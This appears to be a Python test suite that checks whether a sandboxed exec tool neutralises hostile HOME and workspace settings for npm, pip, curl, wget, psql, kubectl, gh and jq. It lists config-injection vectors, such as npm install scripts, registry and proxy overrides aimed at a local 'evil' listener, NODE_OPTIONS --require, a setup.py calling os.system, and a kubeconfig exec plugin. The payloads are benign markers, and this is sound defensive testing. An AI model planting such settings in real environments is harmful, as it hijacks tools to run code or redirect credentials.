"""Real tools, in the strict sandbox, in a workspace and with a HOME whose settings run programs or send requests elsewhere.

Each way is first shown to work with the plain tool; then the same command line goes through janee_exec with `allowCommands:
[TOOL]`: nothing runs, and nobody connects to the attacker's port, although the capability's network names that port:
what holds is the tool's hardening, not only the network.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import pytest

from tests.runner.rig import SECRET, Rig, free_port

TRUSTED: Final = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
TOOLS: Final = ("npm", "pip3", "curl", "wget", "psql", "kubectl", "gh", "jq")
CONFIG: Final = """\
version: "0.3.0"
services:
  svc:
    baseUrl: http://localhost:{good}
    hosts: ["localhost:{evil}"]
    allowPrivate: true
    auth: {{type: bearer}}
capabilities:
  tools:
    service: svc
    mode: exec
    delivery: env
    allowCommands: [{tools}]
    allowedAgents: [local, "runner:default"]
    env: {{RIG_TOKEN: "{{{{credential}}}}"}}
    workspace: write
    timeout: 60000
"""
KUBECONFIG: Final = """\
apiVersion: v1
kind: Config
current-context: x
clusters: [{name: c, cluster: {server: "@SERVER@"}}]
contexts: [{name: x, context: {cluster: c, user: u}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: @RUN@, interactiveMode: Never}}}]
"""


@dataclass(frozen=True)
class Way:
    """home, work: files there; environment: of the Runner. @RUN@: a program; @EVIL@, @GOOD@: host:port."""

    name: str
    command: tuple[str, ...]
    home: tuple[tuple[str, str], ...] = ()
    work: tuple[tuple[str, str], ...] = ()
    environment: tuple[tuple[str, str], ...] = ()


PACKAGE: Final = (
    '{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "@RUN@", "prepare": "@RUN@", "preversion": "@RUN@"}}'
)
FETCH: Final = ("npm", "view", "left-pad")
CURL: Final = ("curl", "-sS", "-m", "5", "http://@GOOD@/")
WGET: Final = ("wget", "-q", "-t", "1", "-T", "5", "-O", "-", "http://@GOOD@/")
PSQL: Final = ("psql", "-h", "localhost", "-p", "@GOODPORT@", "-U", "me", "-c", "select 1", "db")
PIP: Final = ("pip3", "download", "left-pad", "--no-deps", "--retries", "0")
PIP_THERE: Final = ("pip3", "download", "left-pad", "--no-deps", "-i", "http://@GOOD@/", "--retries", "0")
GH: Final = ("gh", "api", "repos/o/r")
WAYS: Final = (
    Way("npm: scripts of the package", ("npm", "install"), work=(("package.json", PACKAGE),)),
    Way(
        "npm: scripts, allowed in .npmrc",
        ("npm", "install"),
        work=(("package.json", PACKAGE), (".npmrc", "ignore-scripts=false\n")),
    ),
    Way("npm: scripts of `npm version`", ("npm", "version", "patch"), work=(("package.json", PACKAGE),)),
    Way("npm: registry in the workspace", FETCH, work=(("package.json", "{}"), (".npmrc", "registry=http://@EVIL@/\n"))),
    Way("npm: registry in HOME", FETCH, home=((".npmrc", "registry=http://@EVIL@/\n"),)),
    Way("npm: registry in the environment", FETCH, environment=(("NPM_CONFIG_REGISTRY", "http://@EVIL@/"),)),
    Way(
        "npm: proxy in the workspace",
        FETCH,
        work=(("package.json", "{}"), (".npmrc", "proxy=http://@EVIL@/\nhttps-proxy=http://@EVIL@/\nnoproxy=none.test\n")),
    ),
    Way(
        "npm: a program as git",
        ("npm", "install"),
        work=(
            ("package.json", '{"name": "x", "dependencies": {"a": "git+https://h.test/a.git"}}'),
            (".npmrc", "git=@RUN@\n"),
        ),
    ),
    Way(
        "npm: options of node",
        ("npm", "install"),
        work=(
            ("package.json", PACKAGE),
            (".npmrc", "ignore-scripts=false\nscript-shell=@RUN@\nnode-options=--require=@RUNJS@\n"),
        ),
    ),
    Way("node: NODE_OPTIONS in the environment", FETCH, environment=(("NODE_OPTIONS", "--require=@RUNJS@"),)),
    Way(
        "pip: index in HOME",
        PIP,
        home=((".config/pip/pip.conf", "[global]\nindex-url = http://@EVIL@/\ntrusted-host = localhost\nretries = 0\n"),),
    ),
    Way(
        "pip: a setup.py of the requirements",
        ("pip3", "download", "-r", "requirements.txt", "--no-deps"),
        work=(("requirements.txt", "./p\n"), ("p/setup.py", "import os; os.system('@RUN@')\n")),
    ),
    Way("curl: .curlrc in HOME", CURL, home=((".curlrc", "url = http://@EVIL@/\nproxy = http://@EVIL@/\n"),)),
    Way(
        "curl: .curlrc named by the environment",
        CURL,
        work=((".curlrc", "proxy = http://@EVIL@/\n"),),
        environment=(("CURL_HOME", "@WORK@"),),
    ),
    Way(
        "curl: proxy in the environment", CURL, environment=(("http_proxy", "http://@EVIL@/"), ("ALL_PROXY", "http://@EVIL@/"))
    ),
    Way("wget: .wgetrc in HOME", WGET, home=((".wgetrc", "http_proxy = http://@EVIL@/\nuse_proxy = on\n"),)),
    Way(
        "wget: .wgetrc named by the environment",
        WGET,
        work=(("rc", "http_proxy = http://@EVIL@/\n"),),
        environment=(("WGETRC", "@WORK@/rc"),),
    ),
    Way("wget: askpass", WGET, home=((".wgetrc", "use_askpass = @RUN@\n"),)),
    Way("wget: proxy in the environment", WGET, environment=(("http_proxy", "http://@EVIL@/"),)),
    Way(
        "psql: a service file in HOME",
        ("psql", "-c", "select 1"),
        home=((".pg_service.conf", "[s]\nhost=localhost\nport=@EVILPORT@\n"),),
        environment=(("PGSERVICE", "s"),),
    ),
    Way(
        "psql: a host in the environment",
        ("psql", "-c", "select 1"),
        environment=(("PGHOST", "localhost"), ("PGPORT", "@EVILPORT@")),
    ),
    Way(
        "kubectl: a program for the token in HOME",
        ("kubectl", "get", "pods"),
        home=((".kube/config", KUBECONFIG.replace("@SERVER@", "https://@GOOD@")),),
    ),
    Way(
        "kubectl: a program for the token, named by the environment",
        ("kubectl", "get", "pods"),
        work=(("kube", KUBECONFIG.replace("@SERVER@", "https://@GOOD@")),),
        environment=(("KUBECONFIG", "@WORK@/kube"),),
    ),
    Way(
        "kubectl: a server in HOME",
        ("kubectl", "get", "pods"),
        home=((".kube/config", KUBECONFIG.replace("@SERVER@", "http://@EVIL@").replace("exec: ", "x: ")),),
    ),
    Way("gh: a proxy in the environment", GH, environment=(("HTTPS_PROXY", "http://@EVIL@/"), ("GH_TOKEN", "x"))),
    Way("jq: .jq in HOME", ("jq", "-n", "payload"), home=((".jq", 'def payload: "pw" + "ned";\n'),)),
)


class Listener:
    """A port, and how often somebody connected to it. Answers every connection with 404."""

    def __init__(self) -> None:
        self.connections = 0
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._server.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._server.accept()
            except OSError:
                return
            self.connections += 1
            with connection, suppress(OSError):
                connection.settimeout(5)
                connection.recv(4096)
                connection.sendall(b"HTTP/1.1 404 Not Found\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")

    def close(self) -> None:
        with suppress(OSError):
            self._server.shutdown(socket.SHUT_RDWR)
        self._server.close()
        self._thread.join(10)


@dataclass
class Ground:
    """What a way is tried on: two listeners, and an Authority whose capability names both."""

    rig: Rig
    good: Listener
    evil: Listener


@pytest.fixture(scope="module")
def ground(strict_sandbox: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    root = tmp_path_factory.mktemp("ground")
    with closing(Listener()) as good, closing(Listener()) as evil, closing(Rig(root, free_port())) as rig:
        (root / "home").mkdir()
        rig.janee("init")
        (root / "janee" / "config.yaml").write_text(CONFIG.format(good=good.port, evil=evil.port, tools=", ".join(TOOLS)))
        rig.janee("service", "set-secret", "svc", "--from-stdin", stdin=SECRET)
        rig.start_authority()
        yield Ground(rig, good, evil)


@dataclass
class Trial:
    """A hostile HOME and workspace below `root`, made for one way."""

    root: Path
    way: Way
    ground: Ground

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def work(self) -> Path:
        return self.root / "work"

    def fill(self, text: str) -> str:
        good, evil = self.ground.good.port, self.ground.evil.port
        for name, value in (
            ("@RUNJS@", str(self.work / "run.js")),
            ("@RUN@", str(self.work / "run.sh")),
            ("@EVIL@", f"localhost:{evil}"),
            ("@GOOD@", f"localhost:{good}"),
            ("@EVILPORT@", str(evil)),
            ("@GOODPORT@", str(good)),
            ("@WORK@", str(self.work)),
            ("@HOME@", str(self.home)),
        ):
            text = text.replace(name, value)
        return text

    def make(self) -> None:
        mark = self.work / "ran"
        for directory in (self.home, self.work):
            directory.mkdir(parents=True)
        files = [(self.home, *pair) for pair in self.way.home] + [(self.work, *pair) for pair in self.way.work]
        files.append((self.work, "run.sh", f"#!/bin/sh\ntouch {mark}\n"))
        files.append((self.work, "run.js", f"require('fs').writeFileSync({str(mark)!r}, '')\n"))
        for directory, name, text in files:
            path = directory / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(self.fill(text))
            path.chmod(0o755)

    @property
    def command(self) -> list[str]:
        return [self.fill(word) for word in self.way.command]

    @property
    def environment(self) -> dict[str, str]:
        return {name: self.fill(value) for name, value in self.way.environment}

    def plain(self) -> str:
        environment = {"PATH": TRUSTED, "HOME": str(self.home), "LC_ALL": "C.UTF-8"} | self.environment
        done = subprocess.run(
            self.command, cwd=self.work, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60
        )
        return done.stdout

    def is_won(self, output: str, connections: int) -> bool:
        return (self.work / "ran").exists() or self.ground.evil.connections > connections or "pwned" in output


@pytest.mark.parametrize("command", [FETCH, PIP_THERE, CURL, WGET, PSQL], ids=lambda words: words[0])
def test_without_hostile_settings_the_tool_reaches_its_service(
    ground: Ground, tmp_path: Path, command: tuple[str, ...]
) -> None:
    if shutil.which(command[0], path=TRUSTED) is None:
        pytest.skip(f"{command[0]} is not in {TRUSTED}")
    trial, before = Trial(tmp_path, Way("none", command), ground), ground.good.connections
    trial.make()
    with ground.rig.runner("--sandbox", "strict") as client:
        result = client.exec(*trial.command, capability="tools", cwd=str(trial.work))
    assert ground.good.connections > before, result


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.name)
def test_hostile_settings_have_no_effect(ground: Ground, tmp_path: Path, way: Way) -> None:
    if shutil.which(way.command[0], path=TRUSTED) is None:
        pytest.skip(f"{way.command[0]} is not in {TRUSTED}")
    trial, before = Trial(tmp_path / "plain", way, ground), ground.evil.connections
    trial.make()
    assert trial.is_won(trial.plain(), before), "the attack does not work with the plain tool: it shows nothing"
    trial, before = Trial(tmp_path / "janee", way, ground), ground.evil.connections
    trial.make()
    path = {"PATH": os.environ["PATH"]}
    with ground.rig.runner("--sandbox", "strict", env=trial.environment | {"HOME": str(trial.home)} | path) as client:
        result = client.exec(*trial.command, capability="tools", cwd=str(trial.work))
    assert "exitCode" in result, result
    assert not trial.is_won(result["stdout"], before), result
